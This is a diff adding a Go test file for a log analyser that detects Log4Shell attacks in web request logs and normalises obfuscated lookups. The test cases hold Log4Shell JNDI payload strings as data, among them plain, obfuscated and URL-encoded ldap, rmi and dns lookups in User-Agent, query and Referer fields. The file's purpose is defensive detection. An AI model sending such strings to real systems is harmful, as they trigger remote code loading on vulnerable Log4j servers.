@@ -0,0 +1,52 @@
+package analyze
+
+import (
+	"testing"
+
+	"github.com/allensuvorov/tenexlog/internal/parse"
+)
+
+func TestDetectJNDI(t *testing.T) {
+	ua := func(v string) parse.Event {
+		ev := request("/", 200)
+		ev.UA = v
+		return ev
+	}
+	tests := []struct {
+		name      string
+		ev        parse.Event
+		wantFires bool
+	}{
+		{"plain lookup in the User-Agent", ua("${jndi:ldap://198.51.100.7:1389/a}"), true},
+		{"obfuscated lookup", ua("${${::-j}${lower:N}di:${lower:l}dap://x.example/a}"), true},
+		{"encoded lookup in the query", request("/search?q=%24%7Bjndi%3Armi%3A%2F%2Fx.example%2Fa%7D", 200), true},
+		{"lookup in the Referer", parse.Event{TS: t0, SrcIP: "198.51.100.7", Path: "/", Referer: "${jndi:dns://x.example}"}, true},
+		{"template placeholder", request("/greet?name=${user}", 200), false},
+		{"nested placeholders without a lookup", ua("${a${b}}"), false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := DetectJNDI([]parse.Event{tt.ev})
+			if (len(got) > 0) != tt.wantFires {
+				t.Fatalf("got %+v, want fires=%v", got, tt.wantFires)
+			}
+			if tt.wantFires && got[0].Kind != "log4shell" {
+				t.Errorf("kind %q, want log4shell", got[0].Kind)
+			}
+		})
+	}
+}
+
+func TestNormalizeJNDI(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{"${${::-j}${lower:N}di:ldap://x}", "${jndi:ldap://x}"},
+		{"${${env:NOPE:-j}ndi${upper::}rmi://x}", "${jndi:rmi://x}"},
+		{"${${date:'j'}ndi:dns://x}", "${jndi:dns://x}"},
+		{"${JNDI:LDAP://X}", "${jndi:ldap://x}"},
+	}
+	for _, tt := range tests {
+		if got := NormalizeJNDI(tt.in); got != tt.want {
+			t.Errorf("NormalizeJNDI(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}